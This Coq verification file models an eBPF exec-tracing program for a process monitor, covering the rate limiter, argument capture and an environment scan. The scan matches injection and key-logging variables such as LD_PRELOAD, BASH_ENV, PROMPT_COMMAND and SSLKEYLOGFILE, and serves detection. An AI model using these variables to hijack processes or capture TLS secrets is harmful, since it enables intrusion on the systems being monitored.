(* ===== verification/SysExec.v ===== *)
(** * The process visibility programs ([src/bpf/sys_exec.bpf.c], [exec_event.h])

    The two tracepoints on [execve] and [execveat]: a token bucket per CPU, the
    capture of one [exec_event_t] and its publication in the ring [PROCESS_EVENTS],
    which the process monitor reads. The struct is the [ExecEvent] of
    [neuromesh-common], whose packed layout it shares.

    The kernel is a parameter: the helpers' answers during one invocation are the
    fields of [KernelEnv], with their documented behaviour as [kernel_ok]. A read of
    user memory is answered per [site], so that memory may change between any two
    reads. The relocated field reads ([bpf_core_read]) are answered per field name,
    since nothing else of the kernel's structures is known to the program.

    Shown here: the rate a CPU admits and that paced calls are never dropped, that
    every published record is decoded by the agent into itself, what the argument and
    environment slots hold, and how the agent reads them. *)

From S2P Require Import Prelude RustStd Common Bpf EnvCapture ExecMapper.
From Stdlib Require Import Sorting.Sorted.

(** ** Field assignments of [struct exec_event_t] *)
Definition set_flags (v : Z) (e : ExecEvent) : ExecEvent :=
  mkExecEvent (ee_schema_version e) (ee_event_type e) v (ee_struct_size e) (ee_header_reserved e)
    (ee_header_pad e) (ee_pid e) (ee_ppid e) (ee_tgid e) (ee_uid e) (ee_euid e) (ee_gid e)
    (ee_comm e) (ee_filename e) (ee_args_count e) (ee_argv_len e) (ee_argv_trunc_mask e)
    (ee_argv_flags e) (ee_argv e) (ee_env_len e) (ee_env_trunc_mask e) (ee_env_flags e)
    (ee_env_ptr_count e) (ee_env_header_pad e) (ee_env e) (ee_container_id e) (ee_align_pad e)
    (ee_namespace_id e) (ee_timestamp_ns e) (ee_enforcement_action e) (ee_capture_status e)
    (ee_status_reserved e).
Definition set_args_count (v : Z) (e : ExecEvent) : ExecEvent :=
  mkExecEvent (ee_schema_version e) (ee_event_type e) (ee_flags e) (ee_struct_size e)
    (ee_header_reserved e) (ee_header_pad e) (ee_pid e) (ee_ppid e) (ee_tgid e) (ee_uid e)
    (ee_euid e) (ee_gid e) (ee_comm e) (ee_filename e) v (ee_argv_len e) (ee_argv_trunc_mask e)
    (ee_argv_flags e) (ee_argv e) (ee_env_len e) (ee_env_trunc_mask e) (ee_env_flags e)
    (ee_env_ptr_count e) (ee_env_header_pad e) (ee_env e) (ee_container_id e) (ee_align_pad e)
    (ee_namespace_id e) (ee_timestamp_ns e) (ee_enforcement_action e) (ee_capture_status e)
    (ee_status_reserved e).
Definition set_argv_len (v : Z) (e : ExecEvent) : ExecEvent :=
  mkExecEvent (ee_schema_version e) (ee_event_type e) (ee_flags e) (ee_struct_size e)
    (ee_header_reserved e) (ee_header_pad e) (ee_pid e) (ee_ppid e) (ee_tgid e) (ee_uid e)
    (ee_euid e) (ee_gid e) (ee_comm e) (ee_filename e) (ee_args_count e) v (ee_argv_trunc_mask e)
    (ee_argv_flags e) (ee_argv e) (ee_env_len e) (ee_env_trunc_mask e) (ee_env_flags e)
    (ee_env_ptr_count e) (ee_env_header_pad e) (ee_env e) (ee_container_id e) (ee_align_pad e)
    (ee_namespace_id e) (ee_timestamp_ns e) (ee_enforcement_action e) (ee_capture_status e)
    (ee_status_reserved e).
Definition set_argv_trunc_mask (v : Z) (e : ExecEvent) : ExecEvent :=
  mkExecEvent (ee_schema_version e) (ee_event_type e) (ee_flags e) (ee_struct_size e)
    (ee_header_reserved e) (ee_header_pad e) (ee_pid e) (ee_ppid e) (ee_tgid e) (ee_uid e)
    (ee_euid e) (ee_gid e) (ee_comm e) (ee_filename e) (ee_args_count e) (ee_argv_len e) v
    (ee_argv_flags e) (ee_argv e) (ee_env_len e) (ee_env_trunc_mask e) (ee_env_flags e)
    (ee_env_ptr_count e) (ee_env_header_pad e) (ee_env e) (ee_container_id e) (ee_align_pad e)
    (ee_namespace_id e) (ee_timestamp_ns e) (ee_enforcement_action e) (ee_capture_status e)
    (ee_status_reserved e).
Definition set_argv_flags (v : Z) (e : ExecEvent) : ExecEvent :=
  mkExecEvent (ee_schema_version e) (ee_event_type e) (ee_flags e) (ee_struct_size e)
    (ee_header_reserved e) (ee_header_pad e) (ee_pid e) (ee_ppid e) (ee_tgid e) (ee_uid e)
    (ee_euid e) (ee_gid e) (ee_comm e) (ee_filename e) (ee_args_count e) (ee_argv_len e)
    (ee_argv_trunc_mask e) v (ee_argv e) (ee_env_len e) (ee_env_trunc_mask e) (ee_env_flags e)
    (ee_env_ptr_count e) (ee_env_header_pad e) (ee_env e) (ee_container_id e) (ee_align_pad e)
    (ee_namespace_id e) (ee_timestamp_ns e) (ee_enforcement_action e) (ee_capture_status e)
    (ee_status_reserved e).
Definition set_argv (v : bytes) (e : ExecEvent) : ExecEvent :=
  mkExecEvent (ee_schema_version e) (ee_event_type e) (ee_flags e) (ee_struct_size e)
    (ee_header_reserved e) (ee_header_pad e) (ee_pid e) (ee_ppid e) (ee_tgid e) (ee_uid e)
    (ee_euid e) (ee_gid e) (ee_comm e) (ee_filename e) (ee_args_count e) (ee_argv_len e)
    (ee_argv_trunc_mask e) (ee_argv_flags e) v (ee_env_len e) (ee_env_trunc_mask e) (ee_env_flags e)
    (ee_env_ptr_count e) (ee_env_header_pad e) (ee_env e) (ee_container_id e) (ee_align_pad e)
    (ee_namespace_id e) (ee_timestamp_ns e) (ee_enforcement_action e) (ee_capture_status e)
    (ee_status_reserved e).
Definition set_env_len (v : Z) (e : ExecEvent) : ExecEvent :=
  mkExecEvent (ee_schema_version e) (ee_event_type e) (ee_flags e) (ee_struct_size e)
    (ee_header_reserved e) (ee_header_pad e) (ee_pid e) (ee_ppid e) (ee_tgid e) (ee_uid e)
    (ee_euid e) (ee_gid e) (ee_comm e) (ee_filename e) (ee_args_count e) (ee_argv_len e)
    (ee_argv_trunc_mask e) (ee_argv_flags e) (ee_argv e) v (ee_env_trunc_mask e) (ee_env_flags e)
    (ee_env_ptr_count e) (ee_env_header_pad e) (ee_env e) (ee_container_id e) (ee_align_pad e)
    (ee_namespace_id e) (ee_timestamp_ns e) (ee_enforcement_action e) (ee_capture_status e)
    (ee_status_reserved e).
Definition set_env_trunc_mask (v : Z) (e : ExecEvent) : ExecEvent :=
  mkExecEvent (ee_schema_version e) (ee_event_type e) (ee_flags e) (ee_struct_size e)
    (ee_header_reserved e) (ee_header_pad e) (ee_pid e) (ee_ppid e) (ee_tgid e) (ee_uid e)
    (ee_euid e) (ee_gid e) (ee_comm e) (ee_filename e) (ee_args_count e) (ee_argv_len e)
    (ee_argv_trunc_mask e) (ee_argv_flags e) (ee_argv e) (ee_env_len e) v (ee_env_flags e)
    (ee_env_ptr_count e) (ee_env_header_pad e) (ee_env e) (ee_container_id e) (ee_align_pad e)
    (ee_namespace_id e) (ee_timestamp_ns e) (ee_enforcement_action e) (ee_capture_status e)
    (ee_status_reserved e).
Definition set_env_flags (v : Z) (e : ExecEvent) : ExecEvent :=
  mkExecEvent (ee_schema_version e) (ee_event_type e) (ee_flags e) (ee_struct_size e)
    (ee_header_reserved e) (ee_header_pad e) (ee_pid e) (ee_ppid e) (ee_tgid e) (ee_uid e)
    (ee_euid e) (ee_gid e) (ee_comm e) (ee_filename e) (ee_args_count e) (ee_argv_len e)
    (ee_argv_trunc_mask e) (ee_argv_flags e) (ee_argv e) (ee_env_len e) (ee_env_trunc_mask e) v
    (ee_env_ptr_count e) (ee_env_header_pad e) (ee_env e) (ee_container_id e) (ee_align_pad e)
    (ee_namespace_id e) (ee_timestamp_ns e) (ee_enforcement_action e) (ee_capture_status e)
    (ee_status_reserved e).
Definition set_env_ptr_count (v : Z) (e : ExecEvent) : ExecEvent :=
  mkExecEvent (ee_schema_version e) (ee_event_type e) (ee_flags e) (ee_struct_size e)
    (ee_header_reserved e) (ee_header_pad e) (ee_pid e) (ee_ppid e) (ee_tgid e) (ee_uid e)
    (ee_euid e) (ee_gid e) (ee_comm e) (ee_filename e) (ee_args_count e) (ee_argv_len e)
    (ee_argv_trunc_mask e) (ee_argv_flags e) (ee_argv e) (ee_env_len e) (ee_env_trunc_mask e)
    (ee_env_flags e) v (ee_env_header_pad e) (ee_env e) (ee_container_id e) (ee_align_pad e)
    (ee_namespace_id e) (ee_timestamp_ns e) (ee_enforcement_action e) (ee_capture_status e)
    (ee_status_reserved e).
Definition set_env_header_pad (v : Z) (e : ExecEvent) : ExecEvent :=
  mkExecEvent (ee_schema_version e) (ee_event_type e) (ee_flags e) (ee_struct_size e)
    (ee_header_reserved e) (ee_header_pad e) (ee_pid e) (ee_ppid e) (ee_tgid e) (ee_uid e)
    (ee_euid e) (ee_gid e) (ee_comm e) (ee_filename e) (ee_args_count e) (ee_argv_len e)
    (ee_argv_trunc_mask e) (ee_argv_flags e) (ee_argv e) (ee_env_len e) (ee_env_trunc_mask e)
    (ee_env_flags e) (ee_env_ptr_count e) v (ee_env e) (ee_container_id e) (ee_align_pad e)
    (ee_namespace_id e) (ee_timestamp_ns e) (ee_enforcement_action e) (ee_capture_status e)
    (ee_status_reserved e).
Definition set_env (v : bytes) (e : ExecEvent) : ExecEvent :=
  mkExecEvent (ee_schema_version e) (ee_event_type e) (ee_flags e) (ee_struct_size e)
    (ee_header_reserved e) (ee_header_pad e) (ee_pid e) (ee_ppid e) (ee_tgid e) (ee_uid e)
    (ee_euid e) (ee_gid e) (ee_comm e) (ee_filename e) (ee_args_count e) (ee_argv_len e)
    (ee_argv_trunc_mask e) (ee_argv_flags e) (ee_argv e) (ee_env_len e) (ee_env_trunc_mask e)
    (ee_env_flags e) (ee_env_ptr_count e) (ee_env_header_pad e) v (ee_container_id e)
    (ee_align_pad e) (ee_namespace_id e) (ee_timestamp_ns e) (ee_enforcement_action e)
    (ee_capture_status e) (ee_status_reserved e).
Definition set_event_type (v : Z) (e : ExecEvent) : ExecEvent :=
  mkExecEvent (ee_schema_version e) v (ee_flags e) (ee_struct_size e) (ee_header_reserved e)
    (ee_header_pad e) (ee_pid e) (ee_ppid e) (ee_tgid e) (ee_uid e) (ee_euid e) (ee_gid e)
    (ee_comm e) (ee_filename e) (ee_args_count e) (ee_argv_len e) (ee_argv_trunc_mask e)
    (ee_argv_flags e) (ee_argv e) (ee_env_len e) (ee_env_trunc_mask e) (ee_env_flags e)
    (ee_env_ptr_count e) (ee_env_header_pad e) (ee_env e) (ee_container_id e) (ee_align_pad e)
    (ee_namespace_id e) (ee_timestamp_ns e) (ee_enforcement_action e) (ee_capture_status e)
    (ee_status_reserved e).
Definition set_struct_size (v : Z) (e : ExecEvent) : ExecEvent :=
  mkExecEvent (ee_schema_version e) (ee_event_type e) (ee_flags e) v (ee_header_reserved e)
    (ee_header_pad e) (ee_pid e) (ee_ppid e) (ee_tgid e) (ee_uid e) (ee_euid e) (ee_gid e)
    (ee_comm e) (ee_filename e) (ee_args_count e) (ee_argv_len e) (ee_argv_trunc_mask e)
    (ee_argv_flags e) (ee_argv e) (ee_env_len e) (ee_env_trunc_mask e) (ee_env_flags e)
    (ee_env_ptr_count e) (ee_env_header_pad e) (ee_env e) (ee_container_id e) (ee_align_pad e)
    (ee_namespace_id e) (ee_timestamp_ns e) (ee_enforcement_action e) (ee_capture_status e)
    (ee_status_reserved e).
(** [event->capture_status |= bit], and the same for the flag and mask bytes. *)
Definition or_capture_status (bit : Z) (e : ExecEvent) : ExecEvent :=
  set_capture_status (Z.lor (ee_capture_status e) bit) e.
Definition or_argv_flags (bit : Z) (e : ExecEvent) : ExecEvent :=
  set_argv_flags (Z.lor (ee_argv_flags e) bit) e.
Definition or_argv_trunc_mask (bit : Z) (e : ExecEvent) : ExecEvent :=
  set_argv_trunc_mask (Z.lor (ee_argv_trunc_mask e) bit) e.
Definition or_env_flags (bit : Z) (e : ExecEvent) : ExecEvent :=
  set_env_flags (Z.lor (ee_env_flags e) bit) e.
Definition or_env_trunc_mask (bit : Z) (e : ExecEvent) : ExecEvent :=
  set_env_trunc_mask (Z.lor (ee_env_trunc_mask e) bit) e.

(** [exec_mark_unknown]: the buffer of [size] bytes and the status. *)
Definition exec_mark_unknown (size : nat) (status bit : Z) : bytes * Z :=
  (copy_into (zeroed size) UNKNOWN_SENTINEL, Z.lor status bit).

(** ** The kernel during one invocation *)

(** A read of user memory: the path, the [i]-th pointer of [argv] or [envp], the
    string it points to. *)
Inductive site : Type :=
| AtFilename
| AtArgvPtr (i : nat)
| AtArgvStr (i : nat)
| AtEnvPtr (i : nat)
| AtEnvStr (i : nat).

(** The fields of [vmlinux.h] the program follows. *)
Inductive core_field : Type :=
| task_cred | cred_euid
| task_real_parent | task_tgid
| task_nsproxy | nsproxy_pid_ns_for_children | pid_namespace_ns_inum
| task_cgroups | css_set_dfl_cgrp | cgroup_kn | kernfs_node_name.

(** Whether the field is an [int], read into four bytes; the others are pointers. *)
Definition core_field_is_int (f : core_field) : bool :=
  match f with cred_euid | task_tgid | pid_namespace_ns_inum => true | _ => false end.

(** A read of a string into a buffer returns the helper's result and the buffer
    afterwards; a read of a value is [None] where the helper returns an error. *)
Record KernelEnv : Type := mkKernelEnv {
  trace_args : list Z;
  get_current_pid_tgid : Z;
  get_current_uid_gid : Z;
  get_current_task : Z;
  get_current_comm : bytes → Z * bytes;
  core_read : core_field → Z → option Z;
  probe_read_kernel_str : Z → bytes → Z * bytes;
  probe_read_user : site → Z → option Z;
  probe_read_user_str : site → Z → bytes → Z * bytes;
  ktime_rate : Z;
  ktime_event : Z;
  probe_stack : bytes
}.

(** ** The rate limiter *)
Definition NS_PER_TOKEN : Z := 2000.
Definition MAX_TOKENS : Z := 500000.

Record rate_limit_state : Type := mkRateLimitState { last_ns : Z; tokens : Z }.

(** The per-CPU maps of one CPU; [None] is a failed lookup. *)
Record CpuMaps : Type := mkCpuMaps {
  RLIMIT_BUCKET : option rate_limit_state;
  RLIMIT_DROPS : option Z;
  CAPTURE_FAILS : option Z
}.

Definition record_counter (c : option Z) : option Z := (λ n, wrapping_add 64 n 1) <$> c.
Definition record_rate_drop (m : CpuMaps) : CpuMaps :=
  mkCpuMaps (RLIMIT_BUCKET m) (record_counter (RLIMIT_DROPS m)) (CAPTURE_FAILS m).
Definition record_capture_failure (m : CpuMaps) : CpuMaps :=
  mkCpuMaps (RLIMIT_BUCKET m) (RLIMIT_DROPS m) (record_counter (CAPTURE_FAILS m)).
Definition set_bucket (s : rate_limit_state) (m : CpuMaps) : CpuMaps :=
  mkCpuMaps (Some s) (RLIMIT_DROPS m) (CAPTURE_FAILS m).

(** The first call fills the bucket. *)
Definition rate_init (now : Z) (s : rate_limit_state) : rate_limit_state :=
  if bool_decide (last_ns s = 0) then mkRateLimitState now MAX_TOKENS else s.
Definition rate_refill (now : Z) (s : rate_limit_state) : rate_limit_state :=
  let delta := as_uint 64 (now - last_ns s) in
  if bool_decide (NS_PER_TOKEN ≤ delta) then
    let t := wrapping_add 64 (tokens s) (delta / NS_PER_TOKEN) in
    mkRateLimitState now (if bool_decide (MAX_TOKENS < t) then MAX_TOKENS else t)
  else s.
Definition rate_limit_allow (now : Z) (m : CpuMaps) : CpuMaps * bool :=
  match RLIMIT_BUCKET m with
  | None => (m, true)
  | Some s =>
      let s := rate_refill now (rate_init now s) in
      if bool_decide (tokens s = 0) then (record_rate_drop (set_bucket s m), false)
      else (set_bucket (mkRateLimitState (last_ns s) (tokens s - 1)) m, true)
  end.

(** ** The captured fields *)
Definition zero_event : ExecEvent :=
  mkExecEvent 0 0 0 0 0 (zeroed 8) 0 0 0 0 0 0 (zeroed MAX_COMM_LEN) (zeroed MAX_FILENAME_LEN)
    0 0 0 0 (zeroed MAX_ARGV_LEN) 0 0 0 0 0 (zeroed MAX_ENV_LEN) (zeroed MAX_CONTAINER_ID_LEN)
    (zeroed 4) 0 0 0 0 (zeroed 5).

Definition init_exec_event : ExecEvent :=
  set_enforcement_action ENFORCEMENT_ALLOWED
    (set_struct_size EXEC_EVENT_STRUCT_SIZE (set_event_type EXEC_EVENT_TYPE_EXECVE zero_event)).

Section capture.
Context (k : KernelEnv).

Definition capture_pid_tgid (e : ExecEvent) : ExecEvent :=
  let pid_tgid := get_current_pid_tgid k in
  let e := set_pid (as_uint 32 (Z.shiftr pid_tgid 32)) e in
  set_tgid (as_uint 32 pid_tgid) e.

(** [bpf_core_read(&p, .., &base->f) < 0 || !p]: the pointer when both tests pass. *)
Definition core_read_ptr (f : core_field) (base : Z) : option Z :=
  p ← core_read k f base; if bool_decide (p = 0) then None else Some p.
Definition current_task_ptr : option Z :=
  if bool_decide (get_current_task k = 0) then None else Some (get_current_task k).

Definition capture_credentials (e : ExecEvent) : ExecEvent :=
  let uid_gid := get_current_uid_gid k in
  let e := set_uid (as_uint 32 uid_gid) e in
  let e := set_gid (as_uint 32 (Z.shiftr uid_gid 32)) e in
  match task ← current_task_ptr; cred ← core_read_ptr task_cred task; core_read k cred_euid cred with
  | None => or_capture_status CAPTURE_EUID e
  | Some euid => set_euid euid e
  end.

Definition mark_comm_unknown (e : ExecEvent) : ExecEvent :=
  let '(buf, status) := exec_mark_unknown MAX_COMM_LEN (ee_capture_status e) CAPTURE_COMM in
  set_capture_status status (set_comm buf e).
Definition capture_comm (e : ExecEvent) : ExecEvent :=
  let '(ret, buf) := get_current_comm k (ee_comm e) in
  let e := set_comm buf e in
  if bool_decide (ret < 0) then mark_comm_unknown e else e.

Definition capture_ppid (e : ExecEvent) : ExecEvent :=
  match task ← current_task_ptr; parent ← core_read_ptr task_real_parent task;
        core_read k task_tgid parent with
  | None => or_capture_status CAPTURE_PPID e
  | Some ppid => set_ppid ppid e
  end.

Definition capture_namespace_id (e : ExecEvent) : ExecEvent :=
  match task ← current_task_ptr; nsproxy ← core_read_ptr task_nsproxy task;
        pid_ns ← core_read_ptr nsproxy_pid_ns_for_children nsproxy;
        core_read k pid_namespace_ns_inum pid_ns with
  | None => or_capture_status CAPTURE_NAMESPACE_ID e
  | Some inum => set_namespace_id inum e
  end.

Definition mark_container_unknown (e : ExecEvent) : ExecEvent :=
  let '(buf, status) :=
    exec_mark_unknown MAX_CONTAINER_ID_LEN (ee_capture_status e) CAPTURE_CONTAINER_ID in
  set_capture_status status (set_container_id buf e).
Definition capture_container_id (e : ExecEvent) : ExecEvent :=
  match task ← current_task_ptr; cgroups ← core_read_ptr task_cgroups task;
        cgrp ← core_read_ptr css_set_dfl_cgrp cgroups; kn ← core_read_ptr cgroup_kn cgrp;
        core_read_ptr kernfs_node_name kn with
  | None => mark_container_unknown e
  | Some name_ptr =>
      let '(ret, buf) := probe_read_kernel_str k name_ptr (ee_container_id e) in
      let e := set_container_id buf e in
      if bool_decide (ret < 0) then mark_container_unknown e else e
  end.

(** [None] is the result [-1]. *)
Definition capture_filename (filename_ptr : Z) (e : ExecEvent) : option ExecEvent :=
  if bool_decide (filename_ptr = 0) then None
  else
    let '(ret, buf) := probe_read_user_str k AtFilename filename_ptr (zeroed MAX_FILENAME_LEN) in
    if bool_decide (ret ≤ 0) then None else Some (set_filename buf e).

(** ** The arguments *)

(** [&argv[i]]. *)
Definition nth_ptr (base : Z) (i : nat) : Z := wrapping_add 64 base (8 * Z.of_nat i).

Definition argv_slot (argv : bytes) (i : nat) : bytes :=
  slice (i * MAX_ARG_STR_LEN) MAX_ARG_STR_LEN argv.

Definition store_argv_slot (i : nat) (buf : bytes) (e : ExecEvent) : ExecEvent :=
  set_argv (write_at (ee_argv e) (i * MAX_ARG_STR_LEN) buf) e.

(** The loop from slot [i] with [n] turns left: the count and the event. *)
Fixpoint argv_loop (argv : Z) (n i : nat) (count : Z) (e : ExecEvent) : Z * ExecEvent :=
  match n with
  | O => (count, e)
  | S n =>
      match probe_read_user k (AtArgvPtr i) (nth_ptr argv i) with
      | None =>
          (count, or_argv_flags ARGV_FLAG_PROBE_FAULT
                    (or_capture_status (Z.lor CAPTURE_ARGS_COUNT CAPTURE_ARGV) e))
      | Some arg_ptr =>
          if bool_decide (arg_ptr = 0) then (count, e)
          else
            let '(ret, buf) := probe_read_user_str k (AtArgvStr i) arg_ptr (argv_slot (ee_argv e) i) in
            let e := store_argv_slot i buf e in
            if bool_decide (ret ≤ 0) then
              (count, or_argv_flags ARGV_FLAG_PROBE_FAULT (or_capture_status CAPTURE_ARGV e))
            else
              let e := if bool_decide (Z.of_nat MAX_ARG_STR_LEN ≤ ret)
                       then or_capture_status CAPTURE_ARGV
                              (or_argv_trunc_mask (as_uint 8 (Z.shiftl 1 (Z.of_nat i))) e)
                       else e in
              argv_loop argv n (S i) (count + 1) e
      end
  end.

(** The assignments before the loop. *)
Definition reset_argv (e : ExecEvent) : ExecEvent :=
  set_args_count 0 (set_argv_flags 0 (set_argv_trunc_mask 0 (set_argv_len 0
    (set_argv (zeroed MAX_ARGV_LEN) e)))).

Definition capture_argv (argv : Z) (e : ExecEvent) : ExecEvent :=
  let e := reset_argv e in
  if bool_decide (argv = 0) then
    or_argv_flags ARGV_FLAG_PROBE_FAULT
      (or_capture_status (Z.lor CAPTURE_ARGS_COUNT CAPTURE_ARGV) e)
  else
    let '(count, e) := argv_loop argv MAX_ARGS_CAPTURE 0 0 e in
    let e := set_argv_len (as_uint 16 count) (set_args_count count e) in
    if bool_decide (count = Z.of_nat MAX_ARGS_CAPTURE) then
      match probe_read_user k (AtArgvPtr MAX_ARGS_CAPTURE) (nth_ptr argv MAX_ARGS_CAPTURE) with
      | Some extra =>
          if bool_decide (extra = 0) then e
          else or_argv_flags ARGV_FLAG_ARGC_TRUNCATED (or_capture_status CAPTURE_ARGV e)
      | None => e
      end
    else e.
End capture.

(** ** The environment *)
Definition env_load_u64 (s : bytes) : Z := le_decode (take 8 s).
Definition env_load_u32 (s : bytes) : Z := le_decode (take 4 s).

(** [s[i] == c]. *)
Definition char_at (s : bytes) (i : nat) (c : Z) : bool := bool_decide (s !! i = Some c).
(** The ASCII code of a character constant. *)
Definition chr (c : Ascii.ascii) : Z := Z.of_N (Ascii.N_of_ascii c).

Definition env_is_ld_preload (s : bytes) : bool :=
  bool_decide (env_load_u64 s = 0x4f4c4552505f444c) && char_at s 8 (chr "A")
  && char_at s 9 (chr "D") && char_at s 10 (chr "=").
Definition env_is_ld_audit (s : bytes) : bool :=
  bool_decide (env_load_u64 s = 0x54494455415f444c) && char_at s 8 (chr "=").
Definition env_is_ld_library_path (s : bytes) : bool :=
  bool_decide (env_load_u64 s = 0x415242494c5f444c)
  && bool_decide (env_load_u32 (drop 8 s) = 0x505f5952) && char_at s 12 (chr "A")
  && char_at s 13 (chr "T") && char_at s 14 (chr "H") && char_at s 15 (chr "=").
Definition env_is_path (s : bytes) : bool :=
  bool_decide (env_load_u32 s = 0x48544150) && char_at s 4 (chr "=").
Definition env_is_node_options (s : bytes) : bool :=
  bool_decide (env_load_u64 s = 0x54504f5f45444f4e)
  && bool_decide (env_load_u32 (drop 8 s) = 0x534e4f49) && char_at s 12 (chr "=").
Definition env_is_pythonpath (s : bytes) : bool :=
  bool_decide (env_load_u64 s = 0x41504e4f48545950) && char_at s 8 (chr "T")
  && char_at s 9 (chr "H") && char_at s 10 (chr "=").
Definition env_is_bash_env (s : bytes) : bool :=
  bool_decide (env_load_u64 s = 0x564e455f48534142) && char_at s 8 (chr "=").
Definition env_is_prompt_command (s : bytes) : bool :=
  bool_decide (env_load_u64 s = 0x435f54504d4f5250)
  && bool_decide (env_load_u32 (drop 8 s) = 0x414d4d4f) && char_at s 12 (chr "N")
  && char_at s 13 (chr "D") && char_at s 14 (chr "=").
Definition env_is_sslkeylogfile (s : bytes) : bool :=
  bool_decide (env_load_u64 s = 0x4f4c59454b4c5353)
  && bool_decide (env_load_u32 (drop 8 s) = 0x4c494647) && char_at s 12 (chr "E")
  && char_at s 13 (chr "=").

(** [env_store32(event->env[i], src, ret, event, bit)]. *)
Definition env_store32 (i : nat) (src : bytes) (ret : Z) (bit : Z) (e : ExecEvent) : ExecEvent :=
  let e := set_env (write_at (ee_env e) (i * MAX_ENV_STR_LEN) (take MAX_ENV_STR_LEN src)) e in
  if bool_decide (Z.of_nat MAX_ENV_STR_LEN ≤ ret)
  then or_capture_status CAPTURE_ENV (or_env_trunc_mask bit e) else e.

(** [event->env[i][0] != 0]. *)
Definition env_slot_used (e : ExecEvent) (i : nat) : bool :=
  negb (char_at (env_slot (ee_env e) i) 0 0).

Definition env_match_store (probe : bytes) (ret c0 : Z) (e : ExecEvent) : ExecEvent :=
  if bool_decide (c0 = chr "L") && char_at probe 1 (chr "D") then
    if env_is_ld_preload probe then env_store32 0 probe ret 1 e
    else if env_is_ld_audit probe then env_store32 1 probe ret 2 e
    else if env_is_ld_library_path probe then env_store32 2 probe ret 4 e
    else e
  else if bool_decide (c0 = chr "P") then
    if char_at probe 1 (chr "A") && env_is_path probe then env_store32 3 probe ret 8 e
    else if char_at probe 1 (chr "Y") && env_is_pythonpath probe then env_store32 5 probe ret 32 e
    else if char_at probe 1 (chr "R") && env_is_prompt_command probe then env_store32 7 probe ret 128 e
    else e
  else if bool_decide (c0 = chr "N") && env_is_node_options probe then env_store32 4 probe ret 16 e
  else if bool_decide (c0 = chr "B") && env_is_bash_env probe then env_store32 6 probe ret 64 e
  else if bool_decide (c0 = chr "S") && env_is_sslkeylogfile probe then
    if env_slot_used e 7 then or_capture_status CAPTURE_ENV (or_env_flags ENV_FLAG_SLOTS_FULL e)
    else env_store32 7 probe ret 128 e
  else e.

(** Whether the first character starts an allowlisted name. *)
Definition env_c0_candidate (c0 : Z) : bool :=
  bool_decide (c0 ∈ [chr "L"; chr "P"; chr "N"; chr "B"; chr "S"]).

Section emit.
Context (k : KernelEnv).

(** The scan from entry [i] with [n] turns left, [probe] being the stack buffer as the
    last read left it: the number scanned and the event. *)
Fixpoint env_loop (envp : Z) (n i : nat) (scanned : Z) (probe : bytes) (e : ExecEvent) : Z * ExecEvent :=
  match n with
  | O => (scanned, e)
  | S n =>
      match probe_read_user k (AtEnvPtr i) (nth_ptr envp i) with
      | None => (scanned, or_env_flags ENV_FLAG_PROBE_FAULT (or_capture_status CAPTURE_ENV e))
      | Some env_ptr =>
          if bool_decide (env_ptr = 0) then (scanned, e)
          else
            let '(ret, probe) := probe_read_user_str k (AtEnvStr i) env_ptr probe in
            if bool_decide (ret ≤ 0) then
              env_loop envp n (S i) (scanned + 1) probe
                (or_env_flags ENV_FLAG_PROBE_FAULT (or_capture_status CAPTURE_ENV e))
            else
              let c0 := nth 0 probe 0 in
              let e := if env_c0_candidate c0 then env_match_store probe ret c0 e else e in
              env_loop envp n (S i) (scanned + 1) probe e
      end
  end.

Definition reset_env (e : ExecEvent) : ExecEvent :=
  set_env_header_pad 0 (set_env_ptr_count 0 (set_env_flags 0 (set_env_trunc_mask 0
    (set_env_len 0 (set_env (zeroed MAX_ENV_LEN) e))))).

Definition env_hits (e : ExecEvent) : nat :=
  length (filter (λ i, env_slot_used e i = true) (seq 0 MAX_ENV_CAPTURE)).

Definition capture_envp (envp : Z) (e : ExecEvent) : ExecEvent :=
  let e := reset_env e in
  if bool_decide (envp = 0) then
    or_env_flags ENV_FLAG_PROBE_FAULT (or_capture_status CAPTURE_ENV e)
  else
    let '(scanned, e) := env_loop envp MAX_ENV_SCAN 0 0 (probe_stack k) e in
    let e := set_env_len (as_uint 16 (Z.of_nat (env_hits e)))
               (set_env_ptr_count (as_uint 16 scanned) e) in
    if bool_decide (scanned = Z.of_nat MAX_ENV_SCAN)
    then or_capture_status CAPTURE_ENV (or_env_flags ENV_FLAG_COUNT_TRUNCATED e) else e.

(** ** The shared emit path *)

(** The captures before the path is read. *)
Definition capture_task (syscall_flags : Z) : ExecEvent :=
  let e := set_flags syscall_flags init_exec_event in
  let e := capture_pid_tgid k e in
  let e := capture_credentials k e in
  let e := capture_comm k e in
  let e := capture_ppid k e in
  let e := capture_namespace_id k e in
  let e := capture_container_id k e in
  let e := set_timestamp_ns (ktime_event k) e in
  if bool_decide (ktime_event k = 0) then or_capture_status CAPTURE_TIMESTAMP e else e.

(** The sentinel for an [execveat] whose path is empty. *)
Definition mark_path_from_fd (syscall_flags : Z) (e : ExecEvent) : ExecEvent :=
  if negb (bool_decide (Z.land syscall_flags EXEC_FLAG_SYSCALL_EXECVEAT = 0))
     && char_at (ee_filename e) 0 0 then
    let '(buf, status) := exec_mark_unknown MAX_FILENAME_LEN (ee_capture_status e) CAPTURE_FILENAME in
    let e := set_capture_status status (set_filename buf e) in
    set_flags (Z.lor (ee_flags e) EXEC_FLAG_PATH_FROM_FD) e
  else e.

(** The record written into the reserved space; [None] when it is discarded. *)
Definition exec_record (filename_ptr argv_ptr envp_ptr syscall_flags : Z) : option ExecEvent :=
  e ← capture_filename k filename_ptr (capture_task syscall_flags);
  let e := mark_path_from_fd syscall_flags e in
  let e := capture_argv k argv_ptr e in
  let e := capture_envp envp_ptr e in
  Some (set_schema_version EXEC_EVENT_SCHEMA_VERSION e).

Context {R : Type} `{RingBuf ExecEvent R}.

(** [emit_exec_event] on the maps of its CPU and the ring; it always returns 0. A
    discarded reservation leaves no record. *)
Definition emit_exec_event (filename_ptr argv_ptr envp_ptr syscall_flags : Z)
    (m : CpuMaps) (ring : R) : CpuMaps * R :=
  match rate_limit_allow (ktime_rate k) m with
  | (m, false) => (m, ring)
  | (m, true) =>
      if negb (rb_reserve ring) then (m, ring)
      else
        match exec_record filename_ptr argv_ptr envp_ptr syscall_flags with
        | None => (record_capture_failure m, ring)
        | Some e => (m, rb_submit ring e)
        end
  end.

Definition arg (i : nat) : Z := nth i (trace_args k) 0.

Definition nm_proc_events : CpuMaps → R → CpuMaps * R :=
  emit_exec_event (arg 0) (arg 1) (arg 2) 0.
Definition nm_execveat : CpuMaps → R → CpuMaps * R :=
  emit_exec_event (arg 1) (arg 2) (arg 3) EXEC_FLAG_SYSCALL_EXECVEAT.
End emit.

(** ** The rate a CPU admits *)

(** The calls of one CPU at the instants [ts]: the answers, in order. *)
